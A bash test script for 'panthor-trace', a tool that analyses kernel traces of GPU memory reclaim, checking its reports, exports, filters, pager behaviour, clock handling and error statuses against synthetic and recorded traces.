#!/bin/bash
# SPDX-License-Identifier: GPL-2.0
# shellcheck disable=SC2015,SC2317 # A && pass || fail: pass does not fail
# What panthor-trace prints, and how it ends.
# shellcheck source=lib.sh
. "$HERE/lib.sh"
cd "$WORK" || exit 1
S=$HERE/scripts

make_trace two.dat <"$S/two-writes.txt"
make_trace big.dat -b -l 8 <"$S/two-writes.txt"
make_trace big32.dat -b -l 4 <"$S/two-writes.txt"
make_trace little32.dat -l 4 <"$S/two-writes.txt"
many_bos 20 | make_trace many.dat

# The formats were printed by a kernel: they must have the fields of today's header, all of them and in its order
header=$HERE/../../../include/trace/events/panthor_reclaim.h
grep -v '^#include' "$header" | ${CC:-cc} -E -P -DTRACE_HEADER_MULTI_READ \
	-D'TRACE_EVENT(name, proto, args, entry, ...)=@ name entry' -D'TP_STRUCT__entry(...)=__VA_ARGS__' \
	-D'__field(type, name)=name' -D'__string(name, src)=name' -D'__string_len(name, src, len)=name' - |
	tr -d ';' | tr '\n' ' ' | sed 's/@ /\n/g' | sed -n 's/ *$//; s/  */ /g; /^panthor_/p' | sort >header.fields
for f in "$HERE"/formats/panthor_*.format; do
	sed -n '/common_pid/,/^print/s/.*field:[^;]* \([a-z_]*\);.*/\1/p' "$f" | grep -v common_pid |
		tr '\n' ' ' | sed "s/^/$(basename "$f" .format) /; s/ $//"
	echo
done | sort >format.fields
[ -s header.fields ] && out=$(diff header.fields format.fields) && pass "the formats are those of the header" ||
	fail "the formats are those of the header" "$out"

# Every view, as text and for scripts
same "report" report.txt "$PT" report two.dat
same "report --bos" report-bos.txt "$PT" report --bos two.dat
same "report -P -H" report-spread.txt "$PT" report -P -H two.dat
same "report as JSON" report.json "$PT" report --bos -F json two.dat
same "report as CSV" report.csv "$PT" report -F csv two.dat
same "refault" refault.txt "$PT" refault --bos two.dat
same "refault as JSON" refault.json "$PT" refault -F json two.dat
same "diff" diff.txt "$PT" diff two.dat two.dat
same "diff as JSON" diff.json "$PT" diff -F json two.dat two.dat
same "export as JSON" export.json "$PT" export two.dat
same "export as Chrome JSON" export-chrome.json "$PT" export -F chrome two.dat
same "export as CSV" export-bos.csv "$PT" export -F csv -T bos two.dat
for by in client vm label reason state; do
	expect "report --by $by: the sums of evicted and skipped memory" 0 '^54591488 71237632$' \
		sh -c "'$PT' report --by $by -F csv -f evicted,skipped two.dat | awk -F, 'NR > 1 { e += \$1; s += \$2 } END { print e, s }'"
done
expect "report --worst 1 prints the worst request" 0 '^2$' sh -c "'$PT' report --worst 1 -F csv -f id two.dat | tail -n +2 | tr -d '\n' | sed 's/$/\n/'"
expect "report --bytes --ns prints exact figures" 0 '^100000000000 .* 50397184 .* 18200000 ' "$PT" report --bytes --ns two.dat
expect "report as JSON lines" 0 '^head requests requests end$' sh -c "'$PT' report -F jsonl two.dat | python3 -c 'import json, sys; print(*(json.loads(l)[\"type\"] for l in sys.stdin))'"
for t in requests vms bos swapins stalls; do
	out=$(diff <("$PT" export -F csv -T $t two.dat | head -n 1 | tr , '\n') \
		<("$PT" export --fields=help | awk -v t="$t:" '/:$/ { on = $1 == t; next } on && NF { print $1 }')) &&
		pass "$t: --fields=help has the columns of the CSV" || fail "$t: --fields=help has the columns of the CSV" "$out"
done

# One trace, four machines: the same text
for f in big big32 little32; do
	cp "$f.dat" other.dat
	if diff <("$PT" report --bos two.dat 2>&1) <("$PT" report --bos other.dat 2>&1) >diff.out; then
		pass "$f: same report as little-endian 64 bit"
	else
		fail "$f: same report as little-endian 64 bit" "$(cat diff.out)"
	fi
done

# Recorded in the guest: two clients, one idle and one busy
cp "$HERE/golden/trace.dat" golden.dat
same "golden trace: report" golden-report.txt "$PT" report --bos golden.dat
same "golden trace: refault" golden-refault.txt "$PT" refault --bos golden.dat
# What is in it adds up, whatever it is
expect "golden trace: export" 0 '^2 requests, [1-9][0-9]* BOs, [1-9][0-9]* swap-ins, bad: 0$' sh -c "'$PT' export golden.dat | python3 -c '
import json, sys
d = json.load(sys.stdin)
bad = 0
for r in d[\"requests\"]:
    bos = [b for b in d[\"bos\"] if b[\"id\"] == r[\"id\"]]
    for what in \"evicted\", \"skipped\":
        of = [b[\"size\"] for b in bos if b[\"what\"] == what]
        bad += (len(of), sum(of)) != (r[what + \"_bos\"], r[what])
        bad += sum(of) != sum(v[what] for v in d[\"vms\"] if v[\"id\"] == r[\"id\"])
    for what in \"written\", \"freed\":
        bad += sum(b[what] or 0 for b in bos) != r[what]
    bad += sum(r[c + \"_ns\"] for c in (\"fence\", \"lock\", \"unmap\", \"writeback\", \"other\")) != r[\"duration_ns\"]
evicted = {(b[\"id\"], b[\"bo_id\"]) for b in d[\"bos\"] if b[\"what\"] == \"evicted\"}
bad += sum((s[\"id\"], s[\"bo_id\"]) not in evicted for s in d[\"swapins\"])
bad += sum(s[\"size\"] for s in d[\"swapins\"]) != sum(s[\"swapped_in\"] for s in d[\"stalls\"])
print(len(d[\"requests\"]), \"requests,\", len(d[\"bos\"]), \"BOs,\", len(d[\"swapins\"]), \"swap-ins, bad:\", bad)'"
for size in 100 5000 12000 13500; do
	head -c $size golden.dat >cut.dat
	complains "golden trace truncated to $size bytes" 1 '^panthor-trace: cut.dat: ' "$PT" report cut.dat
done

# Choosing
expect "a filter by time selects a request" 0 '^ *101\.0.* game' "$PT" report --filter 'duration_ns>100ms' two.dat
expect "a filter by time omits the other" 0 '!browser' "$PT" report --filter 'duration_ns>100ms' two.dat
expect "a filter by label" 0 '1 request:' "$PT" report --filter 'label~texture' two.dat
expect "a filter of BOs and requests" 0 '0 requests' "$PT" report --filter 'label~texture,source=kswapd' two.dat
expect "--time selects by time" 0 '1 request:' "$PT" report --time 100.5, two.dat
expect "--pid selects by target" 0 '1 request:' "$PT" report --pid 388 two.dat
expect "--pid selects by requester" 0 '2 requests:' "$PT" report --pid 412 two.dat
expect "--client selects by client" 0 '1 request:' "$PT" report --client 6 two.dat
expect "--sort sorts in descending order" 0 '^2$' sh -c "'$PT' report --sort=-duration_ns -F csv --fields id two.dat | sed -n 2p"
expect "--fields sets the order of columns" 0 '^requester_comm,id$' "$PT" report -F csv --fields requester_comm,id two.dat
expect "the shares of the blocked time add up to 100" 0 '^100.0$' sh -c "'$PT' report -F csv --fields fence_pct,lock_pct,unmap_pct,writeback_pct,other_pct two.dat | tail -n +2 | awk -F, '{ printf \"%.1f\n\", \$1 + \$2 + \$3 + \$4 + \$5 }' | sort -u"
expect "the worst request is explained in a sentence" 0 'worst #2 at 101.000000: blocked 412 ms: 97.0 % waiting for job fences of VM 2, client 6 of game\[401\] \(3 fences, last 17:2041\)$' "$PT" report two.dat
same "refault --by client" refault-by-client.txt "$PT" refault --by client --soon 3s two.dat
expect "the efficiency of a request" 0 '^1,100.0,378673,0.0$' "$PT" refault -F csv -f id,freed_pct,ns_per_mib,premature_pct two.dat
expect "the premature share" 0 '^2,100.0,103075000,100.0$' "$PT" refault -F csv -f id,freed_pct,ns_per_mib,premature_pct --soon 3s two.dat
expect "the efficiency of all requests" 0 '^of the evicted memory 100.0 % freed, 7.7 % premature; blocked per MiB: 8.27 ms; RAM used by zram is not known$' "$PT" refault --soon 3s two.dat
complains "refault --by with an unsupported key" 2 'by: expected client, not "label"' "$PT" refault --by label two.dat
expect "the verdict of a premature eviction" 0 'game .* premature$' "$PT" refault --soon 3s two.dat
expect "no colour in a pipe" 0 '!'$'\033' "$PT" report two.dat
expect "--color always" 0 $'\033' "$PT" report --color always two.dat
expect "the HTML page is one file" 0 '!(src=|href=|https?://)' "$PT" export -F html two.dat
expect "the HTML page has the data" 0 '^.*"page tiles".*\]$' "$PT" export -F html two.dat

# A column by its name or its head, in any case; each is there once
for t in requests vms bos swapins stalls; do
	heads=$("$PT" export -T $t --fields=help | awk -v t="$t:" '/:$/ { on = $1 == t; next } on && NF { print tolower($1); if (tolower($2) != tolower($1)) print tolower($2) }' | sort | uniq -d)
	[ -z "$heads" ] && pass "$t: a name or title identifies one column" || fail "$t: a name or title identifies one column" "$heads"
done
expect "--fields accepts titles" 0 '^TARGET +#EVICTED +TIME$' "$PT" report --fields 'Target,#evicted,time_ns' two.dat
expect "--sort accepts titles" 0 '^"game"$' sh -c "'$PT' report --sort=-blocked -F csv -f TARGET two.dat | sed -n 2p"
expect "--limit applies after --sort" 0 '^2$' sh -c "'$PT' report --sort=-blocked --limit 1 -F csv -f id two.dat | tail -n +2 | tr '\n' ' ' | sed 's/ $//'"
expect "--limit N" 0 '^2 "evicted"$' sh -c "'$PT' export -T bos -F csv --limit 5 -f id,what two.dat | tail -n 1 | tr , ' '"
expect "--worst with --sort" 0 '^1$' sh -c "'$PT' report --worst 2 --sort id -F csv -f id two.dat | sed -n 2p"
expect "--by alone prints no requests" 0 '!^ *100\.0' "$PT" report --by client two.dat
expect "-P alone prints no requests" 0 '!^ *100\.0' "$PT" report -P two.dat
expect "-H alone prints no requests" 0 '!^ *100\.0' "$PT" report -H two.dat
expect "a CSV has one table, the last" 0 '^what,count,' sh -c "'$PT' report --bos -P -F csv two.dat | head -n 1"
expect "a filter of BOs applies to --by" 0 '^"client 5 \[388\]",1,1,33554432,' "$PT" report --by client -F csv --filter 'label~page' two.dat
expect "--by label groups labels that differ in a number" 0 '^"tile #",1,20,' sh -c "'$PT' report --by label -F csv many.dat"
many_bos 4 | sed 's/label="tile \([0-9]\)"/label="Render target format=r\18g8 extent=64\1x480x1 modifier=0x\1"/' | make_trace mesa.dat
expect "--by label ignores attributes" 0 '^"Render target",1,4,' sh -c "'$PT' report --by label -F csv mesa.dat"
expect "--by label has a row for BOs without a label" 0 '^"\(no label\)",1,1,65536,' "$PT" report --by label -F csv two.dat
expect "--times relative" 0 '^0\.000000 +1 ' "$PT" report --times relative two.dat
complains "an unknown option with control characters" 2 '^panthor-trace: unknown option "--x..1B.2J"' "$PT" report $'--x\033[2J' two.dat
complains "--times wall without the time of day" 1 'needs a trace with the time of day' "$PT" report --times wall two.dat
sed 's/^\([01]\) 1\([0-9][0-9]\.\)/\1 17320001\2/' "$S/two-writes.txt" | make_trace wall.dat
TZ=UTC expect "the time of day" 0 '^2024-11-19T07:08:20.000000 ' "$PT" report --times wall wall.dat
expect "a table fits into the terminal" 0 '^[0-9]+$' sh -c "COLUMNS=80 '$PT' report two.dat | head -n 4 | awk 'length > 80 && !/^columns omitted/ { exit 1 } END { print NR }'"
for t in requests vms bos swapins stalls; do
	expect "$t fit into the terminal" 0 '^[0-9]+$' sh -c "COLUMNS=80 '$PT' export -F table -T $t two.dat | sed '/^columns omitted/d; /^\$/q' | awk 'length > 80 { exit 1 } END { print NR }'"
done
expect "it names the omitted columns" 0 '^columns omitted for width: .*REQUESTER' env COLUMNS=80 "$PT" report two.dat
expect "no column is omitted in a pipe" 0 '!columns omitted' "$PT" report two.dat
expect "no column is omitted in a file" 0 '!columns omitted' sh -c "COLUMNS=80 '$PT' report -o wide.txt two.dat; cat wide.txt"
# on_terminal PAGER OPTION...: a report on a terminal, without carriage returns
on_terminal() { TERM=vt100 PAGER=$1 script -qec "'$PT' report ${*:2} two.dat" /dev/null </dev/null 2>&1 | tr -d '\r'; }
expect "a terminal has a pager" 0 '^P:2 requests: ' on_terminal "sed s/^/P:/"
(echo "clock counter"; cat "$S/two-writes.txt") | make_trace bare0.dat
expect "warnings go through the pager, too" 0 '^P:panthor-trace: warning: older' sh -c "TERM=vt100 PAGER='sed s/^/P:/' script -qec \"'$PT' report bare0.dat\" /dev/null </dev/null | tr -d '\r' | sed 's/bare0.dat.*/older/'"
expect "--no-pager disables the pager" 0 '^2 requests: ' on_terminal "sed s/^/P:/" --no-pager
expect "a CSV has no pager" 0 '^time_ns,' on_terminal "sed s/^/P:/" -F csv
expect "PAGER=cat disables the pager" 0 '^2 requests: ' on_terminal cat
expect "a pipe has no pager" 0 '^2 requests: ' env TERM=vt100 PAGER="sed s/^/P:/" "$PT" report two.dat
expect "a pager that exits early" 0 '^0$' sh -c "TERM=vt100 PAGER='head -n 1 >/dev/null' script -qec \"'$PT' report --bos many.dat; echo \\\$?\" /dev/null </dev/null | tr -d '\r' | tail -n 1"
expect "a pager that does not exist" 0 '^1$' sh -c "TERM=vt100 PAGER=/nowhere/less script -qec \"'$PT' report two.dat; echo \\\$?\" /dev/null </dev/null | tr -d '\r' | tail -n 1"
expect "a pager that cannot be run" 0 '^1$' sh -c "TERM=vt100 PAGER=/ script -qec \"'$PT' report two.dat; echo \\\$?\" /dev/null </dev/null | tr -d '\r' | tail -n 1"
grep -v 'id=2' "$S/two-writes.txt" | sed 's/target_tgid=388/target_tgid=0/; s/target_comm=browser/target_comm=/; s/source=sysfs/source=kswapd/' | make_trace kswapd.dat
expect "an empty cell prints a word" 0 '^1$' sh -c "'$PT' report --bytes --ns kswapd.dat | awk 'NR <= 2 { n[NF] } END { print length(n) }'"
expect "standard input" 0 '^2 requests:' sh -c "cat two.dat | '$PT' report -"
expect "standard input is a file" 0 '^2 requests:' sh -c "'$PT' report - <two.dat"
expect "diff reads standard input" 0 '^requests +2 +2 ' sh -c "'$PT' diff - two.dat <two.dat"
complains "perf.data" 1 'a perf.data file; use perf script' "$PT" report "$HERE/golden/perf.data"

# What belongs to a request, by id: whoever chose it
make_trace back.dat <"$S/two-writes.txt"
for choice in '--pid 412' '--time 99,101.9'; do
	# shellcheck disable=SC2086 # options
	expect "refault $choice" 0 'swapped in 52 MiB' "$PT" refault $choice back.dat
	# shellcheck disable=SC2086 # options
	expect "diff $choice" 0 '^swapped_in +52 MiB +52 MiB ' "$PT" diff $choice back.dat back.dat
	# shellcheck disable=SC2086 # options
	expect "export -T swapins $choice" 0 '^3$' sh -c "'$PT' export -T swapins -F csv $choice back.dat | tail -n +2 | wc -l"
done
expect "refault --pid" 0 'swapped in 48 MiB' "$PT" refault --pid 388 back.dat
expect "refault --client" 0 'swapped in 4 MiB' "$PT" refault --client 6 back.dat
expect "refault --time without requests" 0 'swapped in 0 B' "$PT" refault --time 50,60 back.dat

# Stalls: swap-ins of a thread, joined
expect "a stall and its requester" 0 '^stalled 2 times, 32.5 ms in total; worst at 103.479000: browser\[388\] stalled 30.0 ms for 48 MiB, evicted by #1 of manager\[412\] 3.50 s earlier$' "$PT" report two.dat
# stall SECONDS THREAD REQUEST BO RESULT AWAY...
stall()
{
	printf '0 %s %d panthor_bo_swapin dev=panthor id=%d bo_id=%d client_id=5 tgid=388 vm_id=1 result=%d size=1048576 evicted_ns=%d duration_ns=1000000 evictions=1 label="x"\n' "$@"
}
# One of thread 390: 16 ms apart, of two requests, more of the second, one swap-in that failed; another thread meanwhile. A second one
# of it 16.001 ms later, and a third of a request that the trace does not have.
(grep -vE 'swapin|vmscan' "$S/two-writes.txt" && echo "comm 390 render" && stall \
	110.000000 390 1 11 0 9000000000 110.017000 390 2 21 0 8000000000 110.018000 390 2 22 0 8500000000 110.018500 391 1 12 0 9000000000 \
	110.019000 390 2 23 -12 8600000000 110.036001 390 1 13 0 9000000000 111.000000 390 77 14 0 9000000000) | make_trace stalls.dat
cat >stalls.expected <<-'END'
	time_ns,end_ns,target_comm,tgid,comm,pid,stalled_ns,swapped_in_bos,swapped_in,id,requests,requester_comm,evicted_ns
	109999000000,110019000000,,388,"render",390,4000000,4,3145728,2,2,"manager",8000000000
	110017500000,110018500000,"browser",388,,391,1000000,1,1048576,1,1,"manager",9000000000
	110035001000,110036001000,"browser",388,"render",390,1000000,1,1048576,1,1,"manager",9000000000
	110999000000,111000000000,,388,"render",390,1000000,1,1048576,77,1,,9000000000
END
"$PT" export -T stalls -F csv -f "$(head -n 1 stalls.expected)" stalls.dat >stalls.csv
out=$(diff stalls.expected stalls.csv) && pass "what is one stall, and what is not" || fail "what is one stall, and what is not" "$out"
expect "stalls of the requests of one requester" 0 '^stalled 3 times, 6.00 ms ' "$PT" report --pid 412 stalls.dat
expect "stalls of one target" 0 '^stalled 4 times, 4.00 ms ' "$PT" report --pid 388 stalls.dat
expect "stalls of filtered requests" 0 '^stalled 1 time, ' "$PT" report --filter 'id=2' stalls.dat
expect "stalls sorted by time" 0 '^109.999000 .* 4.00 ms ' sh -c "'$PT' report --stalls --sort=-stalled --limit 1 stalls.dat | sed -n 2p"
expect "--stalls alone prints no requests" 0 '!^ *100\.0' "$PT" report --stalls two.dat
(echo "clock counter"; cat "$S/two-writes.txt") | make_trace bare.dat
expect "no stalls without a clock of seconds" 0 '!^stalled' "$PT" report bare.dat

# The driver was loaded anew: ids, and those of BOs, start again
(grep -v '^#' "$S/two-writes.txt"; grep '^[01]' "$S/two-writes.txt" | awk '{ sub($2, sprintf("%.6f", $2 + 100)); print }') | make_trace reload.dat
expect "ids that restart at 1" 0 '^4$' sh -c "'$PT' refault -F csv reload.dat | tail -n +2 | wc -l"
expect "requests of equal id are kept apart" 0 '^evicted 104 MiB, swapped in 104 MiB' "$PT" refault reload.dat

# To the end of the trace, whatever is there
make_trace gain.dat <<'END'
0 10.000000 412 panthor_reclaim_begin dev=panthor id=1 source=0 requester_tgid=412 target_tgid=388 requester_comm=manager target_comm=browser
0 10.001000 412 panthor_bo_evict id=1 bo_id=11 client_id=5 tgid=388 vm_id=1 state=2 size=1073741824 duration_ns=800000 evictions=1 label="x"
0 10.002000 412 panthor_reclaim_end dev=panthor id=1 source=0 target_tgid=388 evicted_bos=1 evicted=1073741824 duration_ns=2000000 target_comm=browser
noise 0 70.002000 70.002001 2
END
expect "the gain until the end of the trace" 0 ' 60\.0 GiB s evicted$' "$PT" refault gain.dat

# In another clock, in two buffers
(echo "clock counter"; sed 's/^\([01]\) \([0-9]*\)\.\([0-9]*\)/\1 0.000\3/' "$S/two-writes.txt" | sort -s -k2,2) | make_trace counter.dat
make_trace buffers.dat -2 <"$S/two-writes.txt"
complains "a clock that does not count seconds" 0 'the clock "counter" does not count seconds' "$PT" report counter.dat
complains "--time with such a clock" 2 'time needs a clock that counts seconds' "$PT" report --time 1,2 counter.dat
complains "--filter by time with such a clock" 2 'filter: time_ns needs a clock of seconds' "$PT" report --filter 'time_ns>0' counter.dat
expect "no stalls with such a clock" 0 '^no stalls: the clock "counter" does not count seconds' "$PT" report --stalls counter.dat
complains "no timeline with such a clock" 1 'no timeline: the clock' "$PT" export -F chrome counter.dat
(printf 'clock x86-tsc\ntsc2nsec 1\n'; cat "$S/two-writes.txt") | make_trace tsc.dat
expect "a clock that the library converts to seconds" 0 '^50\.000000 +1 sysfs ' "$PT" report tsc.dat
complains "no warning about such a clock" 0 '!.' "$PT" report tsc.dat
for clock in counter uptime x86-tsc ppc-tb s390-tod; do
	(echo "clock $clock"; cat "$S/two-writes.txt") | make_trace clock.dat
	complains "clock $clock" 0 "the clock \"$clock\" does not count seconds" "$PT" report clock.dat
done
for clock in local global perf mono mono_raw boot tai; do
	(echo "clock $clock"; cat "$S/two-writes.txt") | make_trace clock.dat
	complains "clock $clock" 0 '!.' "$PT" report clock.dat
done
expect "no time is computed from it" 0 '^,[1-9][0-9]*$' "$PT" export -T bos -F csv -f writeback_start_ns,writeback_end_ns counter.dat
expect "its timestamps are numbers" 0 '^ +[0-9]+ +1 sysfs ' "$PT" report counter.dat
expect "no gain without a clock of seconds" 0 '^""$|^$' sh -c "'$PT' refault -F csv -f gain_byte_s counter.dat | tail -n 1"
expect "one event in two buffers counts once" 0 '^2 requests: evicted 4 BOs, 52.1 MiB' "$PT" report buffers.dat
expect "refault counts it once, too" 0 'swapped in 52 MiB' "$PT" refault buffers.dat

# Wrong calls: one line, status 2
complains "no command" 2 'Usage: panthor-trace COMMAND' "$PT"
complains "unknown command" 2 '^panthor-trace: unknown command "rport"' "$PT" rport
complains "unknown field" 2 'no field "nme"' "$PT" report --fields nme two.dat
complains "unknown sort key" 2 '--sort: no field "nme"' "$PT" report --sort nme two.dat
complains "unknown filter field" 2 'filter: no field "nme"' "$PT" report --filter 'nme=1' two.dat
complains "filter without operator" 2 'filter: expected one of .* after "id"' "$PT" report --filter id two.dat
complains "filter with a bad value" 2 'filter: "soon" is not a value of field duration_ns' "$PT" report --filter 'duration_ns>soon' two.dat
for f in reason=nonsense what=evictd 'source!=kswapdd' result=EFOO lock=door reason= writeback_when=never; do
	complains "filter with a word that field ${f%%[=!]*} never has" 2 "filter: \".*\" is not a value of field ${f%%[=!]*}; expected " \
		"$PT" report --filter "$f" two.dat
done
for f in what=5 reason=1 reason=0x11 reason=-17 result=-22 lock=none what~vict,what~5 result~EFOO; do
	complains "filter with what its field never shows: $f" 2 "\" is not (a|part of a) value of field ${f%%[=~]*}; expected " "$PT" report --filter "$f" two.dat
done
expect "a number as it is shown" 0 '0 requests' "$PT" report --filter 'result=-4000,reason~7,cut_short=none' two.dat
grep -E '^comm|swapin' "$S/two-writes.txt" | make_trace swapins.dat
complains "filter with a word, of a trace without requests" 2 'not a value of field reason' "$PT" report --filter reason=nonsense swapins.dat
complains "filter with a word, of a selection without requests" 2 'not a value of field reason' "$PT" report --pid 9 --filter reason=nonsense two.dat
complains "which words a field may have" 2 'expected none, busy, locked, changed, mmu-error, pinned,' "$PT" report --filter reason=x two.dat
expect "a word that no BO of this trace has" 0 '0 requests' "$PT" report --filter reason=mmu-error two.dat
expect "a value without a name" 0 '0 requests' "$PT" report --filter reason=17 two.dat
expect "a part of a word" 0 '1 request:' "$PT" report --filter reason~bus two.dat
"$PT" report -F json -o none.json --filter reason=nonsense two.dat 2>/dev/null || true
[ ! -e none.json ] && pass "after which nothing is written" || fail "after which nothing is written"
complains "unknown format" 2 'unknown format "xml"; expected one of table, json' "$PT" report -F xml two.dat
complains "bad time range" 2 'time: expected FROM,TO' "$PT" report --time 5 two.dat
complains "unknown group" 2 'by: expected client, .*, not "colour"' "$PT" report --by colour two.dat
complains "report of two files" 2 'expected one trace file' "$PT" report two.dat two.dat
complains "diff of one file" 2 'diff compares two trace files' "$PT" diff two.dat
complains "reclaim of a name" 2 'PID: expected a process id, not "game"' "$PT" reclaim game

for o in --limit=0 --limit=-1 --limit=1.5 --worst=-1 --worst=0 '--worst= 3' --pid=-5 --pid=0x --pid=99999999999 --client=-1 --client= --client=1k \
	'--time=-1,' --time=1e3 --sort= --fields= --sort=id,id,id,id,id,id,id,id,id --times=utc --color=maybe; do
	complains "report $o" 2 '^panthor-trace: ' "$PT" report "$o" two.dat
done
for o in --soon=0 --soon=-1 --soon=0.0000000001 --soon=1h --soon=99999999999999999999; do
	complains "refault $o" 2 '^panthor-trace: --soon: expected a time' "$PT" refault "$o" two.dat
done
expect "a time without a unit is in seconds" 0 'of that within 500 ms' "$PT" refault --soon 0.5 two.dat
complains "a value that is not a whole number" 2 'is not a value of field evicted' "$PT" report --filter 'evicted>0.3' two.dat
complains "arguments are checked before the trace" 2 'no field "nme"' "$PT" report --fields nme nothing.dat
for c in 'diff two.dat' refault report; do
	# shellcheck disable=SC2086 # two words
	complains "$c -F chrome" 2 'only export supports format chrome' "$PT" $c -F chrome two.dat
done
complains "-F chrome with one table" 2 'exports all tables' "$PT" export -F chrome -T bos two.dat
ln -s two.dat link.dat && ln two.dat hard.dat
for f in two.dat link.dat hard.dat ./two.dat; do
	for c in 'diff one.dat' refault report export; do
		cp two.dat one.dat
		# shellcheck disable=SC2086 # two words
		complains "$c -o $f" 2 'would overwrite the trace' "$PT" $c -o $f two.dat
	done
done
cp two.dat one.dat
for how in '>>one.dat' '1<>one.dat'; do
	for c in 'report one.dat' 'report - <one.dat' 'refault hard1.dat' 'export one.dat' 'diff two.dat one.dat'; do
		ln -f one.dat hard1.dat
		complains "$c $how" 2 'standard output is the trace' sh -c "'$PT' $c $how"
	done
done
cmp -s one.dat two.dat && pass "the trace is as it was" || fail "the trace is as it was"

# Honesty: a line on stderr and a status
for c in 'report two.dat' 'report -F csv two.dat' 'report --fields=help' 'diff --fields=help' 'refault two.dat' 'diff two.dat two.dat' 'export two.dat' \
	'export -F html two.dat' 'export -F chrome two.dat' 'export -F jsonl two.dat' 'report -o /dev/full two.dat' --help --version 'report --help'; do
	complains "full device: $c" 1 'cannot write .*: No space left' sh -c "'$PT' $c >/dev/full"
done
# A warning flushes standard output: why that failed is not forgotten
sed /panthor_reclaim_end/d "$S/two-writes.txt" | make_trace noend.dat
complains "full device, found by a warning" 1 'cannot write .*: No space left' sh -c "'$PT' export noend.dat >/dev/full"
mkfifo unread
complains "a pipe without a reader, found by a warning" 0 '!cannot write' bash -c "exec 3<>unread 4>unread 3<&-; '$PT' export noend.dat >&4"
complains "a file that does not exist" 1 'cannot open nothing.dat: No such file' "$PT" report nothing.dat
complains "a directory" 1 'not a regular file' "$PT" report .
complains "a file that is not a trace" 1 'not a trace.dat file' "$PT" report "$S/two-writes.txt"
complains "an output that cannot be written" 1 'cannot write /nowhere/x' "$PT" report -o /nowhere/x two.dat
: >empty.dat
complains "an empty file" 1 'not a trace.dat file' "$PT" report empty.dat
make_trace none.dat <<<'0 1.0 1 sched_switch prev_pid=1'
complains "a trace without requests" 3 'no reclaim happened during the recording' "$PT" report none.dat
mkdir foreign && cp "$HERE"/formats/sched* foreign/
"$OUT/tests/mktrace" -f foreign foreign.dat <<<'0 1.0 1 sched_switch prev_pid=1'
complains "a kernel without the events" 3 'no reclaim events of panthor; record with' "$PT" report foreign.dat

sed '/lost here/d; /id=2.*frame buffers/s/.*/lost 1 7/' "$S/two-writes.txt" | make_trace lost.dat
complains "lost events: status 4" 4 'warning: lost.dat: the trace lost at least [1-9][0-9]* events' "$PT" report lost.dat
make_trace lostall.dat <<'END'
0 1.0 1 sched_switch prev_pid=1
lost 0 7
0 2.0 1 sched_switch prev_pid=1
END
complains "all events lost: not reported as no reclaim" 4 '!no reclaim happened' "$PT" report lostall.dat
complains "all events lost: the loss is reported" 4 'lostall.dat: the trace lost at least 7 events' "$PT" report lostall.dat
expect "lost events: the request has a note" 4 'game .*events lost during the request, events of only 1 of 1 evicted and 1 of 2 skipped BOs' "$PT" report lost.dat
grep -v 'panthor_reclaim_begin.*id=1' "$S/two-writes.txt" | make_trace nobegin.dat
expect "a missing begin event" 4 'no begin event' "$PT" report nobegin.dat
grep -v 'panthor_reclaim_end.*id=2' "$S/two-writes.txt" | make_trace noend.dat
expect "a missing end event" 4 'no end event' "$PT" report noend.dat
expect "a missing end event: no time is printed" 4 '^2,,$' "$PT" report -F csv --fields id,duration_ns,result noend.dat
grep -v 'panthor_bo' "$S/two-writes.txt" | make_trace nobos.dat
complains "recorded without BO events" 4 'recorded without BO events' "$PT" report nobos.dat
grep -v 'bo_id=13.*evictions' "$S/two-writes.txt" | make_trace missing.dat
complains "a missing BO event without lost events" 5 'totals that do not match their events' "$PT" report missing.dat
sed 's/evicted=50397184/evicted=50397185/' "$S/two-writes.txt" | make_trace wrong.dat
expect "inconsistent totals" 5 'totals do not match the BO events' "$PT" report wrong.dat
expect "inconsistent totals in JSON" 5 '"mismatch": [1-9]' "$PT" report -F json wrong.dat
head -c $(($(stat -c %s two.dat) - 4096)) two.dat >cut.dat
complains "a trace truncated in its data" 1 'truncated' "$PT" report cut.dat
for size in 11 40 300 3000 9000; do
	head -c $size two.dat >cut.dat
	complains "truncated to $size bytes" 1 '^panthor-trace: cut.dat: ' "$PT" report cut.dat
done

mkdir older newer
cp "$HERE"/formats/*.format older
cp "$HERE"/formats/*.format newer
sed -i '/ freed\(_kib\)\?;/d; s/ freed=%llu//; s/ (u64)REC->freed_kib << 10,//; s/ REC->freed,//' older/*.format
"$OUT/tests/mktrace" -f older older.dat <"$S/two-writes.txt"
complains "an older driver" 4 'older driver; missing fields: freed$' "$PT" report older.dat
expect "an older driver: an unknown value is not 0" 4 '^1,$' "$PT" report -F csv --fields id,freed older.dat
expect "an older driver: its share is unknown, too" 4 '^5,,,378673$' "$PT" refault --by client -F csv --fields client_id,freed,freed_pct,ns_per_mib older.dat
expect "an older driver: no freed memory in the summary" 4 '^of the evicted memory 0.0 % premature; blocked per MiB: 8.27 ms$' "$PT" refault older.dat
expect "an older driver: a word that only a later one has" 4 '0 requests' sh -c "sed -i 's/, { 9, \"no-memory\" }//' older/*.format; ! grep -q no-memory older/*.format && '$OUT/tests/mktrace' -f older old.dat <'$S/two-writes.txt' && '$PT' report --filter reason=no-memory old.dat"
# What was called otherwise then: whose request, and when it had been evicted
mkdir renamed
cp "$HERE"/formats/*.format renamed
sed -i 's/requester_tgid/writer_tgid/g; s/evicted_ns/away_ns/g' renamed/*.format
sed 's/requester_tgid/writer_tgid/; s/evicted_ns/away_ns/' "$S/two-writes.txt" | "$OUT/tests/mktrace" -f renamed renamed.dat
complains "renamed fields" 4 'older driver; missing fields: requester_tgid, evicted_ns$' "$PT" report renamed.dat
expect "renamed: an unknown requester is not process 0" 4 '^1,,"browser"$' "$PT" report -F csv -f id,requester_tgid,target_comm renamed.dat
expect "renamed: a stall has no requester and no time" 4 'browser\[388\] stalled 30.0 ms for 48 MiB, evicted by #1$' "$PT" report renamed.dat
expect "renamed: the row of the stall has neither" 4 '^1,,,$' "$PT" export -T stalls -F csv -f id,requester_comm,requester_tgid,evicted_ns renamed.dat
expect "renamed: the time to the swap-in is unknown" 4 '^1,,,,,,"partly"$' "$PT" refault -F csv -f id,premature,premature_pct,shortest_ns,longest_ns,gain_byte_s,verdict renamed.dat
expect "renamed: unknown for the client, too" 4 '^5,50331648,,$' "$PT" refault --by client -F csv -f client_id,swapped_in,premature,premature_pct renamed.dat
expect "renamed: unknown in the summary" 4 '^evicted 52.1 MiB, swapped in 52 MiB; how soon is not known$' "$PT" refault renamed.dat
expect "renamed: unknown in a database" 0 '^\|\|50331648$' sh -c "'$PT' export -F sqlite -o renamed.db renamed.dat 2>renamed.err
	python3 '$HERE/sql.py' renamed.db 'SELECT premature, premature_pct, swapped_in FROM outcomes WHERE id = 1'"
